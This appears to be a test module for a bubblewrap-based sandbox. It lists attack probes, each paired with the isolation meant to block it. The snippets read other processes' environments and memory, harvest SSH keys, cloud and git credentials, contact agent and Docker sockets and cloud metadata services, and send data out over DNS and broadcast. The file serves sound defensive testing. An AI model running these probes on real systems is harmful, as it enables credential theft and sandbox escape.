"""Attacks from inside on what belongs to the host: secrets, files, processes, sockets."""

from __future__ import annotations

from tests.attacks.attempt import Attack

PIDS = "process namespace of its own"
FILES = "narrow, read-only mounts"
ENV = "clean environment, for bubblewrap itself too"
NET = "network namespace of its own"
IPC = "IPC namespace of its own"
NO_CAPS = "no capabilities, no root"

HOST_ATTACKS = (
    Attack(
        "environment of every process",
        ENV,
        """
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    if SECRET in (tried(readable, path) or b""):
        mark(path)
""",
        control=True,
    ),
    Attack(
        "command lines of the host's processes",
        PIDS,
        """
for pid in others():
    if FACTS["bystander_word"].encode() in (tried(readable, f"/proc/{pid}/cmdline") or b"").split(b"\\0"):
        mark(pid)
""",
        control=True,
    ),
    Attack(
        "memory of other processes",
        PIDS,
        """
for pid in others():
    try:
        for line in open(f"/proc/{pid}/maps"):
            if line.rstrip().endswith("[stack]"):
                start, end = (int(word, 16) for word in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                    memory.seek(start)
                    if SECRET in memory.read(end - start):
                        mark(pid)
    except OSError:
        pass
""",
        control=True,
    ),
    Attack(
        "signal to the worker",
        PIDS,
        """
if tried(lambda: os.kill(FACTS["bystander"], 0) or True):
    mark()
""",
        control=True,
    ),
    Attack(
        "descriptors left open",
        "only the three standard descriptors are inherited",
        """
for name in range(3, 4096):
    if tried(os.fstat, name):
        mark(os.readlink(f"/proc/self/fd/{name}"))
""",
    ),
    Attack(
        "standard descriptors that lead outside",
        "output is a pipe, input is empty",
        """
for name in (0, 1, 2):
    where = os.readlink(f"/proc/self/fd/{name}")
    if where != "/dev/null" and not where.startswith("pipe:"):
        mark(where)
if tried(os.open, "/proc/self/fd/1/..", os.O_RDONLY) is not None:
    mark()
""",
    ),
    Attack(
        "canary by its path",
        FILES,
        """
if SECRET in (tried(readable, FACTS["canary"]) or b""):
    mark()
""",
        control=True,
    ),
    Attack(
        "canary by climbing out of the working directory",
        FILES,
        """
here = os.open(".", os.O_RDONLY)
for _ in range(40):
    here = os.open("..", os.O_RDONLY, dir_fd=here)
found = tried(lambda: os.open(FACTS["canary"].lstrip("/"), os.O_RDONLY, dir_fd=here))
if found is not None:
    mark()
""",
        control=True,
    ),
    Attack(
        "canary through the root of another process",
        "process 1 cannot be entered",
        """
for pid in (1, *others()):
    for way in ("root", "cwd", "fd/0", "fd/3"):
        if SECRET in (tried(readable, f"/proc/{pid}/{way}{FACTS['canary']}") or b""):
            mark((pid, way))
""",
        control=True,
    ),
    Attack(
        "canary by a link and by a second name",
        FILES,
        """
os.symlink(FACTS["canary"], "soft")
tried(os.link, FACTS["canary"], "hard")
for name in ("soft", "hard"):
    if SECRET in (tried(readable, name) or b""):
        mark(name)
""",
        control=True,
    ),
    Attack(
        "home directory, keys and tokens in it",
        FILES,
        """
for home in (FACTS["home"], os.path.expanduser("~"), "/root", "/home"):
    for name in (".ssh/id_ed25519", ".netrc", ".git-credentials", ".aws/credentials", ".config/gh/hosts.yml"):
        if SECRET in (tried(readable, f"{home}/{name}") or b""):
            mark(f"{home}/{name}")
""",
        control=True,
    ),
    Attack(
        "agent socket by its path",
        FILES,
        """
with socket.socket(socket.AF_UNIX) as agent:
    if tried(lambda: agent.connect(FACTS["agent"]) or True):
        mark()
""",
        control=True,
    ),
    Attack(
        "agent and bus sockets by their variables",
        ENV,
        """
for name in ("SSH_AUTH_SOCK", "GPG_AGENT_INFO", "DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR", "DISPLAY"):
    if name in os.environ:
        mark(name)
for path in glob.glob("/run/user/*") + glob.glob("/tmp/ssh-*") + glob.glob("/run/dbus/*"):
    mark(path)
""",
    ),
    Attack(
        "sockets of container engines and of the init system",
        FILES,
        """
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
             "/run/crio/crio.sock", "/run/systemd/private", "/run/snapd.socket", "/var/lib/docker"):
    if os.path.exists(path):
        mark(path)
""",
    ),
    Attack(
        "abstract unix socket of the host",
        NET,
        """
with socket.socket(socket.AF_UNIX) as client:
    if tried(lambda: client.connect("\\0" + FACTS["abstract"]) or True):
        mark()
""",
        control=True,
    ),
    Attack(
        "listener on the host's loopback",
        NET,
        """
for address in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3", "::ffff:127.0.0.1"):
    if tried(lambda: socket.create_connection((address, FACTS["port"]), timeout=3)):
        mark(address)
""",
        control=True,
    ),
    Attack(
        "metadata service of the cloud",
        NET,
        """
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"):
    if tried(lambda: socket.create_connection((address, 80), timeout=3)):
        mark(address)
""",
    ),
    Attack(
        "name servers, and data in names",
        NET,
        """
for name in ("example.com", "stolen.example.com"):
    if tried(socket.getaddrinfo, name, 80):
        mark(name)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "127.0.0.11"):
        if server[:3] != "127" and tried(client.sendto, b"stolen", (server, 53)):
            mark(server)
""",
    ),
    Attack(
        "multicast and broadcast",
        NET,
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for address in ("224.0.0.251", "255.255.255.255"):
        if tried(client.sendto, b"stolen", (address, 5353)):
            mark(address)
""",
    ),
    Attack(
        "shared memory of the host, System V",
        IPC,
        """
if LIBC.shmget(FACTS["shm_key"], 0, 0) != -1:
    mark()
""",
        control=True,
    ),
    Attack(
        "shared memory of the host, POSIX",
        FILES,
        """
if SECRET in (tried(readable, "/dev/shm/" + FACTS["shm_name"]) or b""):
    mark()
""",
        control=True,
    ),
    Attack(
        "read-only mount written through every door",
        FILES,
        """
for path in ("/opt/setup/tool", "/run/thirdshift/runner.py", sys.executable, "/usr/bin/env", "/etc/passwd"):
    doors = (
        lambda: open(path, "ab").close(), lambda: os.chmod(path, 0o777), lambda: os.utime(path),
        lambda: os.rename(path, path + ".old"), lambda: os.unlink(path), lambda: os.truncate(path, 0),
        lambda: open(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}", "ab").close(),
        lambda: os.setxattr(path, "user.x", b"x"), lambda: os.mknod(path + ".new"),
    )
    for number, door in enumerate(doors):
        if tried(lambda: door() or True):
            mark((path, number))
""",
    ),
    Attack(
        "read-only mount written by a second name in the workspace",
        FILES,
        """
tried(os.link, "/opt/setup/tool", "/workspace/tool")
written("/workspace/tool", "changed")
tried(os.rename, "/opt/setup", "/workspace/setup")
if b"changed" in readable("/opt/setup/tool"):
    mark()
""",
    ),
    Attack(
        "git configuration and credential helpers of the host",
        FILES,
        """
environment = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
for words in (["config", "--list", "--show-origin"], ["credential", "fill"]):
    said = subprocess.run(["git", *words], input=b"protocol=https\\nhost=example.com\\n\\n", capture_output=True,
                          env=environment, timeout=20)
    if SECRET in said.stdout + said.stderr:
        mark(words)
""",
    ),
    Attack(
        "time, host name and domain name of the machine",
        NO_CAPS,
        """
if LIBC.sethostname(b"taken", 5) == 0 or LIBC.setdomainname(b"taken", 5) == 0:
    mark()
now = time.clock_gettime(time.CLOCK_REALTIME)
if tried(lambda: time.clock_settime(time.CLOCK_REALTIME, now) or True):
    mark("clock")
""",
    ),
)
